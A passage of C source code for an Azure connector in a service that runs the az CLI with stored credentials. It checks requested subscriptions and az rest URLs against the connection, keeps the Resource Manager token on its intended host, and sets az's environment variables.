    cJSON_ArrayForEach(it, subs)
    {
        const char *sid = api_json_str(it, "id"), *name = api_json_str(it, "name");
        if (sid && !strcasecmp(sid, v)) {
            hit = it;
            n = 1;
            break;
        }
        if (by_name && name && *name && !strcasecmp(name, v)) {
            hit = it;
            n++;
        }
    }
    const char *state = hit ? api_json_str(hit, "state") : NULL;
    if (n != 1 || !state || strcmp(state, "Enabled"))
        return -1;
    *id = api_json_str(hit, "id");
    return 0;
}

/* 1 if az rest sends the Resource Manager token for url (see the table)
 * only to the Resource Manager at base. */
static int rest_url_ok(const char *base, const char *url)
{
    if (!strstr(url, "://"))
        return url[0] == '/'; /* az prefixes it with the endpoint, as is */
    size_t bl = strlen(base);
    while (bl > 0 && base[bl - 1] == '/')
        bl--;
    if (bl == 0 || strncasecmp(url, base, bl) != 0)
        return 1; /* another host: az finds no token of the connection for it */
    return url[bl] == '\0' || strchr("/?#", url[bl]) != NULL;
}

/* Every selector the scan found: 0 (*primary: the subscription the command
 * names, or NULL), or -1 with a 403 in resp. */
static int az_check_selectors(const worker_ctx *w, const cJSON *subs,
                              const cloud_argv_result *scan, const char **primary,
                              http_response *resp)
{
    *primary = NULL;
    for (int i = 0; i < scan->n; i++) {
        const cloud_selector *s = &scan->sel[i];
        const char *id = NULL;
        if (!strcmp(s->dest, AZ_REST_URL)) {
            if (!rest_url_ok(mgmt_base(w), s->value)) {
                char shown[80];
                cloud_argv_shown(s->value, shown, sizeof(shown));
                http_resp_error(resp, 403, "AZURE_REST_URL_NOT_ALLOWED",
                                "az rest %s %s is not allowed: az would send the Resource "
                                "Manager token to another host; give a resource id from its "
                                "leading '/' or a URL under %s/",
                                s->what, shown, mgmt_base(w));
                return -1;
            }
            continue;
        }
        if (s->source == CLOUD_SEL_EMBEDDED && !strcmp(s->value, "{subscriptionId}"))
            continue;
        if (az_resolve(subs, s->value, s->source != CLOUD_SEL_EMBEDDED, &id) < 0) {
            char shown[80];
            cloud_argv_shown(s->value, shown, sizeof(shown));
            http_resp_error(resp, 403, "AZURE_SUBSCRIPTION_NOT_ALLOWED",
                            "Azure subscription %s (%s%s) is not an enabled subscription of this "
                            "connection",
                            shown, s->source == CLOUD_SEL_EMBEDDED ? "named in " : "", s->what);
            return -1;
        }
        if (s->primary)
            *primary = id;
    }
    return 0;
}

static int az_prepare(worker_ctx *w, const auth_ctx *who, const char *target,
                      const cloud_argv_result *scan, argv_t *argv, cloud_creds *out,
                      http_response *resp)
{
    (void)argv;
    store_connector c;
    cJSON *md;
    if (kit_row_load(w, who, AZ_ID, &c, &md,
                     "azure is not connected for this user: connect a service principal "
                     "(POST /azure/connect) or sign in (GET /azure/login)",
                     resp) < 0)
        return -1;
    int ret = -1;
    char *tok = NULL;
    const char *auth = api_json_str(md, "auth");
    const char *tenant = api_json_str(md, "tenant_id");
    const char *client = api_json_str(md, "client_id");
    const cJSON *subs = cJSON_GetObjectItemCaseSensitive(md, "subscriptions");
    if (!auth || !tenant || !client || !cJSON_IsArray(subs)) {
        http_resp_error(resp, 500, "AZURE_CONNECTION_CORRUPT",
                        "the stored Azure connection is invalid; connect again");
        goto out;
    }
    const char *sub, *in_argv;
    if (az_check_selectors(w, subs, scan, &in_argv, resp) < 0)
        goto out;
    if (target && *target) {
        sub = pick_subscription(subs, target);
        if (!sub) {
            http_resp_error(resp, 403, "AZURE_SUBSCRIPTION_NOT_CONNECTED",
                            "Azure subscription %.64s is not an enabled subscription of this "
                            "connection", target);
            goto out;
        }
        if (in_argv && strcasecmp(in_argv, sub)) {
            http_resp_error(resp, 400, "BAD_REQUEST",
                            "the request names subscription %s but the command names %s", sub,
                            in_argv);
            goto out;
        }
    } else if (in_argv) {
        sub = in_argv; /* the profile the agent writes makes it az's default too */
    } else {
        const char *d = api_json_str(md, "default_subscription_id");
        sub = d ? pick_subscription(subs, d) : NULL;
        if (!sub)
            sub = pick_subscription(subs, NULL);
        if (!sub) {
            http_resp_error(resp, 400, "AZURE_NO_ENABLED_SUBSCRIPTION", MSG_NO_SUB);
            goto out;
        }
    }
    int64_t exp = 0;
    tok = access_token(w, who, &c, md, auth, tenant, client, &exp, resp);
    if (!tok)
        goto out;
    char expbuf[24];
    snprintf(expbuf, sizeof(expbuf), "%lld", (long long)exp);
    /* A non-default Resource Manager (sovereign cloud, test fixture): the
     * agent registers it as az's active cloud for this command. */
    char ov[520];
    if (kit_url_fmt(ov, sizeof(ov), mgmt_base(w), "/") < 0) {
        http_resp_error(resp, 500, "AZURE_MANAGEMENT_ERROR", "AZURE_MANAGEMENT_BASE is too long");
        goto out;
    }
    const char *env[] = { "AZURE_ACCESS_TOKEN", tok, "AZURE_ACCESS_TOKEN_EXPIRES_ON", expbuf,
                          "AZURE_SUBSCRIPTION_ID", sub, "AZURE_TENANT_ID", tenant,
                          "AZURE_CORE_COLLECT_TELEMETRY", "false", "AZURE_CORE_NO_COLOR", "true",
                          strcmp(ov, "https://management.azure.com/") ? "AZURE_ARM_ENDPOINT_OVERRIDE"
                                                                       : NULL,
                          ov, NULL };
    if (cloud_creds_set(out, env, resp) < 0)
        goto out;
    snprintf(out->target, sizeof(out->target), "%s", sub);
    ret = 0;
out:
    secret_free(tok);
    cJSON_Delete(md);
    store_connector_free(&c);
    return ret;
}

static void az_register(void)
{
    router_add_outbound(HTTP_POST, "/azure/connect", ROUTE_AUTH_API, sp_connect);
    router_add(HTTP_GET, "/azure/login", ROUTE_AUTH_API, login);
    router_add_outbound(HTTP_GET, "/azure/callback", ROUTE_PUBLIC, callback);
}

static const cloud_provider az_cloud = {
    .program = "az",
    .argv_rules = &az_argv,
    .prepare = az_prepare,
};

const connector connector_azure = {
    .id = AZ_ID,
    .name = "Microsoft Azure",
    .register_routes = az_register,
    .status = az_status,
    .cloud = &az_cloud,
    .disconnected = az_disconnected,
    .settings = az_settings,
    .timeout_ms = CONNECTOR_TIMEOUT_MS,
    .redirect_setting = "AZURE_REDIRECT_URI",
};
